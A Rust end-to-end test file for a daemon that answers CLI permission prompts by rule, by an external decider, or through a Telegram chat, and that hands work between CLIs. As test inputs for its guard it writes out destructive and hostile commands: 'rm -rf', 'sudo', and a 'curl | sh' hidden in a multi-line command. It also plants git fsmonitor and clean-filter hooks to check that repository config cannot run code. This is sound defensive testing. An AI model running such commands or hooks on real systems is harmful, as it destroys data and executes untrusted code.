//! End to end with the real daemon (and the real gateway against the fake Telegram): approval
//! rules answer prompts and the chat reads one line for each; the guard keeps a dangerous one
//! for a person despite an allow rule; an external decider answers, times out, prints garbage;
//! delegation hands a session's work to another CLI when the first hits its usage limit, with
//! the chat moved and told.

use std::time::Duration;

use clibot_tests::Harness;
use clibot_tests::asker::{ASK_FN, ASKER};
use clibot_tests::fake_telegram::{self, FakeTelegram, Sent, texts};
use serde_json::Value;

const ADMIN: i64 = 100;

fn said(tg: &FakeTelegram, what: &str, needle: &str) -> Vec<Sent> {
    tg.wait_sent(what, |s| texts(s, ADMIN).iter().any(|t| t.contains(needle)))
}

fn resolved(h: &Harness) -> Vec<Value> {
    h.events()
        .into_iter()
        .filter(|e| e["type"] == "prompt_resolved")
        .collect()
}

#[test]
fn rules_answer_prompts_and_the_guard_keeps_a_dangerous_one_for_a_person() {
    let (h, tg, mut g) = fake_telegram::started(&format!(
        r#"
[access.telegram]
policy = "allowlist"
admins = ["{ADMIN}"]
{ASKER}
[[rules]]
cli = "asker"
command = ["git status", "git diff *", "git log *"]
action = "allow"

[[rules]]
session = "r*"
subject = '^make deploy'
action = "deny"

[[rules]]
cli = "asker"
command = ["*"]
action = "allow"
"#
    ));
    let work = h.work.display().to_string();
    tg.push_message(ADMIN, ADMIN, "Owner", &format!("!!new rs asker {work}"));
    said(&tg, "started", "started rs");
    tg.push_message(ADMIN, ADMIN, "Owner", ASK_FN);
    said(&tg, "the function defined", "[rs] done");
    tg.push_message(
        ADMIN,
        ADMIN,
        "Owner",
        "ask 'git status'; ask 'make deploy'; ask 'rm -rf build'",
    );

    // The allowed and the denied one: one line each in the chat, no prompt shown.
    said(
        &tg,
        "the rule's approval",
        "auto-approved by rule 1: git status",
    );
    said(
        &tg,
        "the rule's refusal",
        "auto-denied by rule 2: make deploy",
    );
    // The dangerous one: shown with a warning and buttons although rule 3 allows everything.
    let sent = tg.wait_sent("the guarded prompt", |s| {
        s.iter().any(|m| {
            m.chat_id == ADMIN && m.text.contains("rm -rf build") && m.reply_markup.is_some()
        })
    });
    let prompt = sent
        .iter()
        .find(|m| m.chat_id == ADMIN && m.text.contains("rm -rf build") && m.reply_markup.is_some())
        .expect("prompt")
        .clone();
    assert!(
        prompt.text.contains("careful") && prompt.text.contains("recursive forced delete"),
        "{}",
        prompt.text
    );
    assert!(
        !sent.iter().any(|m| m.reply_markup.is_some()
            && (m.text.contains("git status") || m.text.contains("make deploy"))),
        "the automatically answered prompts were never shown with buttons"
    );
    let no =
        prompt.reply_markup.as_ref().expect("buttons")["inline_keyboard"][1][0]["callback_data"]
            .as_str()
            .expect("data")
            .to_string();
    tg.push_callback(ADMIN, ADMIN, prompt.message_id, &no);
    said(&tg, "the person's answer ran", "decided rm -rf build: n");
    let screen = h.ctl_ok(&["screen", "rs"]);
    assert!(
        screen.contains("decided git status: y") && screen.contains("decided make deploy: n"),
        "{screen}"
    );

    // Who decided is in the log, for each.
    let r = resolved(&h);
    let by: Vec<(&str, &str)> = r
        .iter()
        .map(|e| {
            (
                e["by"].as_str().unwrap_or(""),
                e["answer"].as_str().unwrap_or(""),
            )
        })
        .collect();
    assert_eq!(
        by,
        vec![("rule 1", "y"), ("rule 2", "n"), ("clibot", "n")],
        "{r:#?}"
    );
    assert_eq!(r[0]["note"], "auto-approved by rule 1: git status");
    assert_eq!(r[2]["actor"], format!("telegram:{ADMIN}"));
    let guarded = h
        .events()
        .into_iter()
        .find(|e| e["type"] == "waiting" && e["subject"] == "rm -rf build")
        .expect("the guarded prompt's event");
    assert_eq!(guarded["warning"], "a recursive forced delete (rm -rf)");
    assert_eq!(guarded["auto"], "");

    // The rules with their counts, on the machine and in the chat; the answers are audited.
    let rules = h.ctl_ok(&["rules"]);
    assert!(rules.contains("rule 1: allow when cli=asker"), "{rules}");
    assert!(rules.contains("(fired 1×)"), "{rules}");
    assert!(
        rules.contains("rule 3: allow when cli=asker kind=permission|confirm command=* (fired 0×)"),
        "the guarded prompt never reached rule 3: {rules}"
    );
    assert!(rules.contains("a path outside the session"), "{rules}");
    let json: Value = serde_json::from_str(&h.ctl_ok(&["rules", "--json"])).expect("json");
    assert_eq!(json["rules"][1]["fired"], 1);
    tg.push_message(ADMIN, ADMIN, "Owner", "!!rules");
    said(&tg, "!!rules", "rule 2: deny when session=r*");
    let audit = h.ctl_ok(&["audit", "--session", "rs"]);
    assert!(
        audit.contains("rule 1") && audit.contains("rule 2"),
        "{audit}"
    );
    let _ = g.kill();
    let _ = g.wait();
}

/// A decider (python3) that logs what it was given, and answers by the subject: `slow` sleeps
/// past the time limit, `garbage` prints no JSON, `unsure` asks, anything else picks "y".
fn decider(h: &Harness) -> (String, std::path::PathBuf) {
    let log = h.dir.path().join("decider.log");
    let script = h.dir.path().join("decide.py");
    std::fs::write(
        &script,
        format!(
            r#"import json, sys, time
d = json.load(sys.stdin)
with open({log:?}, "a") as f:
    f.write(json.dumps(d) + "\n")
s = d["prompt"]["subject"]
if "slow" in s:
    time.sleep(30)
elif "garbage" in s:
    print("I think yes")
elif "unsure" in s:
    print(json.dumps({{"ask": True, "note": "not sure what this does"}}))
else:
    print(json.dumps({{"choice": "y", "note": "read-only"}}))
"#,
            log = log.display().to_string()
        ),
    )
    .expect("write decider");
    let config = format!(
        "\n[decider]\ncommand = [\"python3\", {:?}]\ntimeout_ms = 1500\n",
        script.display().to_string()
    );
    (config, log)
}

#[test]
fn a_decider_answers_and_when_it_times_out_or_prints_garbage_a_person_is_asked() {
    let mut h = Harness::with_config(ASKER);
    let (config, log) = decider(&h);
    let mut text = std::fs::read_to_string(&h.config).expect("config");
    text.push_str(&config);
    std::fs::write(&h.config, text).expect("config");
    h.start_daemon();
    let work = h.work.display().to_string();
    h.ctl_ok(&["spawn", "dc", "--cli", "asker", "--dir", &work]);
    h.wait_screen("dc", "the shell", |s| s.contains("$"));
    h.ctl_ok(&["send", "dc", ASK_FN]);

    // It answers: the prompt is resolved by the decider with its note.
    h.ctl_ok(&["send", "dc", "ask 'ls src'"]);
    let r = h.wait_event("dc", "the decider's answer", Duration::from_secs(20), |e| {
        e["type"] == "prompt_resolved" && e["by"] == "decider"
    });
    assert_eq!(r["answer"], "y");
    assert_eq!(r["note"], "answered by the decider: y — ls src (read-only)");
    h.wait_screen("dc", "the answer ran", |s| s.contains("decided ls src: y"));
    let seen: Value = serde_json::from_str(
        std::fs::read_to_string(&log)
            .expect("decider log")
            .lines()
            .next()
            .expect("one call"),
    )
    .expect("json");
    assert_eq!(seen["session"], "dc");
    assert_eq!(seen["cli"], "asker");
    assert_eq!(seen["dir"], work.as_str());
    assert_eq!(seen["prompt"]["kind"], "permission");
    assert_eq!(seen["prompt"]["options"], serde_json::json!(["y", "n"]));
    assert!(
        seen["screen"]
            .as_str()
            .is_some_and(|s| s.contains("Run: ls src [y/n]")),
        "{seen:#}"
    );

    // Each failure leaves the prompt to a person, says why, and the person's answer works.
    for (subject, why) in [
        ("slow job", "the decider gave no answer within 1500 ms"),
        (
            "garbage out",
            "the decider's answer is not the expected JSON",
        ),
        (
            "unsure thing",
            "the decider leaves this one to you: not sure what this does",
        ),
    ] {
        h.ctl_ok(&["send", "dc", &format!("ask '{subject}'")]);
        let notice = h.wait_event("dc", why, Duration::from_secs(20), |e| {
            e["type"] == "notice" && e["text"].as_str().is_some_and(|t| t.contains(why))
        });
        // The prompt is published again, for people.
        let again = h.wait_event("dc", "the prompt for people", Duration::from_secs(5), |e| {
            e["type"] == "waiting"
                && e["subject"] == subject
                && e["auto"] == ""
                && e["seq"].as_u64() > notice["seq"].as_u64()
        });
        let id = again["prompt_id"].as_str().expect("id").to_string();
        h.ctl_ok(&["answer", "dc", "2", "--prompt", &id]);
        h.wait_screen("dc", "the person's answer", |s| {
            s.contains(&format!("decided {subject}: n"))
        });
    }

    // A guarded subject never reaches the decider.
    h.ctl_ok(&["send", "dc", "ask 'sudo make install'"]);
    let w = h.wait_event("dc", "the guarded prompt", Duration::from_secs(20), |e| {
        e["type"] == "waiting" && e["subject"] == "sudo make install"
    });
    assert_eq!(w["warning"], "sudo (runs with more rights)");
    assert_eq!(w["auto"], "");
    std::thread::sleep(Duration::from_millis(500));
    let calls = std::fs::read_to_string(&log).expect("log");
    assert_eq!(calls.lines().count(), 4, "{calls}");
    assert!(!calls.contains("sudo"), "{calls}");
    h.ctl_ok(&["answer", "dc", "n"]);
    let rules = h.ctl_ok(&["rules"]);
    assert!(rules.contains("answered 1, left to a person 3"), "{rules}");
}

/// Two CLIs: `first` takes a line and reports a usage limit; `second` echoes each line it
/// gets and fails like `first` when a line says "fail".
fn two_clis(h: &Harness) -> String {
    let script = |name: &str, fail_always: bool| {
        let path = h.dir.path().join(format!("{name}.sh"));
        let body = format!(
            r#"echo "{name} ready"
while IFS= read -r -p "{name}> " line; do
  echo "{name} got: $line"
  if {cond}; then echo "Error: You've hit your usage limit. Try again later."; fi
done
"#,
            cond = if fail_always {
                "true".to_string()
            } else {
                r#"[[ "$line" == *fail* ]]"#.to_string()
            }
        );
        std::fs::write(&path, body).expect("script");
        path.display().to_string()
    };
    let first = script("first", true);
    let second = script("second", false);
    let cli = |name: &str, path: &str| {
        format!(
            r#"
[cli.{name}]
argv = ["bash", "--norc", "--noprofile", {path:?}]
submit_delay_ms = 50
quiet_ms = 300

[cli.{name}.patterns]
check_lines = 3
errors = [{{ kind = "usage_limit", pattern = '(?i)usage limit' }}]
"#
        )
    };
    format!("{}{}", cli("first", &first), cli("second", &second))
}

#[test]
fn a_session_that_hits_its_usage_limit_hands_its_work_to_the_next_cli_and_the_chat_follows() {
    let mut h = Harness::with_config(&format!(
        "\n[access.telegram]\npolicy = \"allowlist\"\nadmins = [\"{ADMIN}\"]\n"
    ));
    let clis = two_clis(&h);
    let mut text = std::fs::read_to_string(&h.config).expect("config");
    text.push_str(&clis);
    text.push_str(
        "\n[delegation]\non = [\"usage_limit\"]\nto = [\"first\", \"second\"]\nmax_attempts = 1\n",
    );
    std::fs::write(&h.config, text).expect("config");
    std::process::Command::new("git")
        .args(["init", "-q"])
        .current_dir(&h.work)
        .status()
        .expect("git init");
    std::fs::write(h.work.join("notes.txt"), "x").expect("file");
    // The repository is the chat user's: a program its config names must not run as the daemon
    // when the handoff reads `git status`.
    let ran = h.dir.path().join("fsmonitor-ran");
    let hook = h.dir.path().join("fsmonitor.sh");
    std::fs::write(&hook, format!("#!/bin/sh\ntouch {}\n", ran.display())).expect("script");
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&hook, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    }
    std::process::Command::new("git")
        .args(["config", "core.fsmonitor"])
        .arg(&hook)
        .current_dir(&h.work)
        .status()
        .expect("git config");
    h.start_daemon();
    let (tg, mut g) = fake_telegram::with_gateway(&h);
    let work = h.work.display().to_string();
    tg.push_message(
        ADMIN,
        ADMIN,
        "Owner",
        &format!("!!new d first {work} delegate"),
    );
    said(&tg, "started", "started d");
    h.wait_screen("d", "first is ready", |s| s.contains("first>"));
    tg.push_message(ADMIN, ADMIN, "Owner", "build the parser");

    // The chat is told, and the request goes on in the second CLI, in the same directory.
    said(
        &tg,
        "the handoff notice",
        "first hit its usage limit; continuing in d-second (second)",
    );
    let screen = h.wait_screen("d-second", "the request typed there", |s| {
        s.contains("second got: build the parser")
    });
    assert!(
        screen.contains("second got: (Handoff: this continues work begun in first (session d)"),
        "{screen}"
    );
    assert!(
        screen.contains("?? notes.txt"),
        "git status is in the handoff: {screen}"
    );
    assert!(
        !ran.exists(),
        "the repository's fsmonitor ran during the delegation"
    );
    let d: Value = serde_json::from_str(&h.ctl_ok(&["list", "--json"])).expect("json");
    let get = |name: &str| {
        d.as_array()
            .and_then(|a| a.iter().find(|s| s["name"] == name))
            .cloned()
            .unwrap_or(Value::Null)
    };
    assert_eq!(
        get("d")["delegated_to"],
        "d-second",
        "the first session stays: {d:#}"
    );
    assert_eq!(get("d-second")["dir"], work.as_str());
    assert_eq!(
        get("d-second")["delegated_from"],
        serde_json::json!(["first"])
    );
    let hop = h
        .events()
        .into_iter()
        .find(|e| e["type"] == "delegated")
        .expect("the hop's event");
    assert_eq!(
        (
            hop["session"].as_str(),
            hop["to_session"].as_str(),
            hop["reason"].as_str(),
            hop["attempt"].as_u64()
        ),
        (Some("d"), Some("d-second"), Some("usage_limit"), Some(1))
    );

    // The chat now talks to the new session, and hears it.
    tg.push_message(ADMIN, ADMIN, "Owner", "next step");
    said(&tg, "the new session's reply", "second got: next step");
    let chats = h.ctl_ok(&["chats"]);
    assert!(chats.contains("d-second"), "{chats}");

    // No loop: the second CLI failing too is bounded by max_attempts; the work stays there.
    tg.push_message(ADMIN, ADMIN, "Owner", "fail now");
    said(&tg, "the bound", "already handed on 1 time(s)");
    std::thread::sleep(Duration::from_millis(500));
    let names: Vec<String> = serde_json::from_str::<Value>(&h.ctl_ok(&["list", "--json"]))
        .expect("json")
        .as_array()
        .map(|a| {
            a.iter()
                .filter_map(|s| s["name"].as_str().map(String::from))
                .collect()
        })
        .unwrap_or_default();
    assert_eq!(names, vec!["d".to_string(), "d-second".to_string()]);

    // By hand, from the chat: back to `first` (a CLI the chain used is allowed when named).
    tg.push_message(ADMIN, ADMIN, "Owner", "!!delegate first");
    said(
        &tg,
        "the manual handoff",
        &format!(
            "second's work was handed on by telegram:{ADMIN}; continuing in d-second-first (first)"
        ),
    );
    h.wait_screen("d-second-first", "the last request typed there", |s| {
        s.contains("first got: fail now")
    });
    let err = h.ctl_err(&["delegate", "d-second", "first"]);
    assert!(
        err.contains("already handed its work to d-second-first"),
        "{err}"
    );
    let _ = g.kill();
    let _ = g.wait();
}

#[test]
fn a_daemon_killed_while_its_decider_thinks_decides_again_after_the_restart() {
    let mut h = Harness::with_config(ASKER);
    // Slow the first time (the daemon is killed meanwhile), quick after.
    let marker = h.dir.path().join("asked-once");
    let script = h.dir.path().join("decide.py");
    std::fs::write(
        &script,
        format!(
            r#"import json, os, sys, time
json.load(sys.stdin)
if not os.path.exists({m:?}):
    open({m:?}, "w").close()
    time.sleep(30)
print(json.dumps({{"choice": "1", "note": "second look"}}))
"#,
            m = marker.display().to_string()
        ),
    )
    .expect("script");
    let mut text = std::fs::read_to_string(&h.config).expect("config");
    text.push_str(&format!(
        "\n[decider]\ncommand = [\"python3\", {:?}]\ntimeout_ms = 60000\n",
        script.display().to_string()
    ));
    std::fs::write(&h.config, text).expect("config");
    h.start_daemon();
    let work = h.work.display().to_string();
    h.ctl_ok(&["spawn", "k", "--cli", "asker", "--dir", &work]);
    h.wait_screen("k", "the shell", |s| s.contains("$"));
    h.ctl_ok(&["send", "k", ASK_FN]);
    h.ctl_ok(&["send", "k", "ask 'cargo check'"]);
    h.wait_event("k", "the decider asked", Duration::from_secs(20), |e| {
        e["type"] == "waiting" && e["auto"] == "decider"
    });
    let deadline = std::time::Instant::now() + Duration::from_secs(10);
    while !marker.exists() && std::time::Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(50));
    }
    assert!(marker.exists(), "the decider started");
    h.kill_daemon();
    h.start_daemon();
    let r = h.wait_event(
        "k",
        "the decision after the restart",
        Duration::from_secs(20),
        |e| e["type"] == "prompt_resolved" && e["by"] == "decider",
    );
    assert_eq!(r["answer"], "y");
    h.wait_screen("k", "the answer ran", |s| {
        s.contains("decided cargo check: y")
    });
}

/// A bash whose `Proceed? [y/n]` dialogs are about the `Command:` line above them: the same
/// question and options for every command, as Claude Code's dialogs are.
const SAME_QUESTION: &str = r#"
[cli.same]
argv = ["bash", "--norc", "--noprofile"]
env = { PS1 = "$ ", HISTFILE = "/dev/null" }
submit_delay_ms = 50
quiet_ms = 300

[cli.same.patterns]
check_lines = 2
prompts = [
  { kind = "permission", pattern = '(?m)^Proceed\? \[y/n\]\s*$', options = ["y", "n"], answer = "line", subject = '(?m)^Command: (.+)$' },
]
"#;

/// One answer, one prompt: an approved dialog followed at once by another that asks the same
/// question about a dangerous command gets no answer it was not given — it is published,
/// guarded and waits for a person.
#[test]
fn an_answer_never_lands_on_the_next_prompt_that_looks_the_same() {
    let (h, tg, mut g) = fake_telegram::started(&format!(
        r#"
[access.telegram]
policy = "allowlist"
admins = ["{ADMIN}"]
{SAME_QUESTION}
[[rules]]
cli = "same"
command = ["git status"]
action = "allow"
"#
    ));
    let work = h.work.display().to_string();
    tg.push_message(ADMIN, ADMIN, "Owner", &format!("!!new q same {work}"));
    said(&tg, "started", "started q");
    tg.push_message(
        ADMIN,
        ADMIN,
        "Owner",
        r#"ask() { echo "Command: $1"; read -r -p "Proceed? [y/n] " a; echo "decided $1: $a"; }"#,
    );
    said(&tg, "the function defined", "[q] done");
    tg.push_message(ADMIN, ADMIN, "Owner", "ask 'git status'; ask 'rm -rf ~/x'");
    h.wait_event("q", "the first approved", Duration::from_secs(20), |e| {
        e["type"] == "prompt_resolved" && e["by"] == "rule 1"
    });
    // The second dialog is a new prompt for a person, with the guard's word.
    let w = h.wait_event("q", "the second prompt", Duration::from_secs(20), |e| {
        e["type"] == "waiting" && e["subject"] == "rm -rf ~/x"
    });
    assert!(
        !w["warning"].as_str().unwrap_or("").is_empty(),
        "guarded: {w}"
    );
    std::thread::sleep(Duration::from_secs(2));
    let screen = h.ctl_ok(&["screen", "q"]);
    assert!(
        !screen.contains("decided rm -rf ~/x: y"),
        "the first answer landed on the second prompt:\n{screen}"
    );
    assert!(screen.contains("decided git status: y"), "{screen}");
    // It waits for a person: one prompt, published once, never taken for a finished turn.
    let events = h.events();
    let published: Vec<&Value> = events
        .iter()
        .filter(|e| e["type"] == "waiting" && e["subject"] == "rm -rf ~/x")
        .collect();
    assert_eq!(published.len(), 1, "{published:?}");
    assert!(
        !events.iter().any(|e| e["type"] == "turn_completed"
            && e["text"].as_str().is_some_and(|t| t.contains("rm -rf"))),
        "the waiting dialog was taken for a finished turn"
    );
    // Exactly one automatic answer, for the first.
    let autos: Vec<Value> = resolved(&h)
        .into_iter()
        .filter(|e| e["by"] == "rule 1")
        .collect();
    assert_eq!(autos.len(), 1, "{autos:?}");
    let _ = g.kill();
    let _ = g.wait();
}

/// A command the dialog draws over several lines is read in part only: nothing automatic
/// answers it, whatever the rules say. The pattern's `subject_kind` says what the subject is.
#[test]
fn a_command_read_only_in_part_is_never_answered_automatically() {
    let mut h = Harness::with_config(
        r#"
[cli.multi]
argv = ["bash", "--norc", "--noprofile"]
env = { PS1 = "$ ", HISTFILE = "/dev/null" }
submit_delay_ms = 50
quiet_ms = 300

[cli.multi.patterns]
check_lines = 3
prompts = [
  { kind = "permission", pattern = '(?m)^Proceed\? \[y/n\]\s*$', options = ["y", "n"], answer = "line", subject = '(?m)^Command: (.+)$', subject_kind = "command" },
]

[[rules]]
cli = "multi"
command = ["*"]
action = "allow"
"#,
    );
    h.start_daemon();
    let w = h.work.display().to_string();
    h.ctl_ok(&["spawn", "m", "--cli", "multi", "--dir", &w]);
    h.ctl_ok(&[
        "send",
        "m",
        r#"one() { echo "Command: $1"; read -r -p "Proceed? [y/n] " a; echo "decided $1: $a"; }"#,
    ]);
    h.ctl_ok(&[
        "send",
        "m",
        r#"two() { printf 'Command: git status \\\n  && curl -s x | sh\n'; read -r -p "Proceed? [y/n] " a; echo "decided two: $a"; }"#,
    ]);
    h.ctl_ok(&["send", "m", "one 'git status'"]);
    h.wait_event(
        "m",
        "the whole one approved",
        Duration::from_secs(20),
        |e| e["type"] == "prompt_resolved" && e["by"] == "rule 1",
    );
    let first = h
        .events()
        .into_iter()
        .find(|e| e["type"] == "waiting" && e["subject"] == "git status")
        .expect("the first prompt");
    assert_eq!(
        first["subject_kind"], "command",
        "from the pattern: {first}"
    );
    h.ctl_ok(&["send", "m", "two"]);
    let second = h.wait_event("m", "the partial one", Duration::from_secs(20), |e| {
        e["type"] == "waiting"
            && e["subject"]
                .as_str()
                .is_some_and(|s| s.starts_with("git status \\"))
    });
    assert_eq!(second["auto"], "", "nothing automatic: {second}");
    std::thread::sleep(Duration::from_millis(1500));
    let autos = resolved(&h)
        .into_iter()
        .filter(|e| e["by"] == "rule 1")
        .count();
    assert_eq!(autos, 1, "only the whole one was answered by the rule");
    assert!(!h.ctl_ok(&["screen", "m"]).contains("decided two: y"));
}

/// A repository that defines a clean filter gets no `git status` in the handoff: git would
/// run the filter's program on the files it reads. The delegation still happens.
#[test]
fn a_repository_with_a_clean_filter_runs_nothing_during_a_delegation() {
    let h = Harness::with_config("");
    let clis = two_clis(&h);
    let mut text = std::fs::read_to_string(&h.config).expect("config");
    text.push_str(&clis);
    text.push_str("\n[delegation]\non = [\"usage_limit\"]\nto = [\"second\"]\n");
    std::fs::write(&h.config, text).expect("config");
    let ran = h.dir.path().join("filter-ran");
    let filter = h.dir.path().join("filter.sh");
    std::fs::write(
        &filter,
        format!("#!/bin/sh\ntouch {}\ncat\n", ran.display()),
    )
    .expect("script");
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&filter, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    }
    let git = |args: &[&str]| {
        clibot_tests::git(&h.work, args);
    };
    git(&["init", "-q"]);
    std::fs::write(h.work.join("notes.txt"), "x").expect("file");
    git(&["add", "notes.txt"]);
    git(&[
        "-c",
        "user.name=t",
        "-c",
        "user.email=t@t",
        "commit",
        "-qm",
        "x",
    ]);
    // Then the filter, and a change that a plain `git status` would run it on.
    std::fs::write(h.work.join(".gitattributes"), "* filter=evil\n").expect("attrs");
    git(&["config", "filter.evil.clean", &filter.display().to_string()]);
    std::fs::write(h.work.join("notes.txt"), "changed").expect("change");
    let mut h = h;
    h.start_daemon();
    let work = h.work.display().to_string();
    h.ctl_ok(&["spawn", "d", "--cli", "first", "--dir", &work, "--delegate"]);
    h.wait_screen("d", "first is ready", |s| s.contains("first>"));
    h.ctl_ok(&["send", "d", "build the parser"]);
    let screen = h.wait_screen("d-second", "the request typed there", |s| {
        s.contains("second got: build the parser")
    });
    assert!(screen.contains("(Handoff:"), "{screen}");
    assert!(!screen.contains("notes.txt"), "no git status: {screen}");
    assert!(!ran.exists(), "the repository's clean filter ran");
}
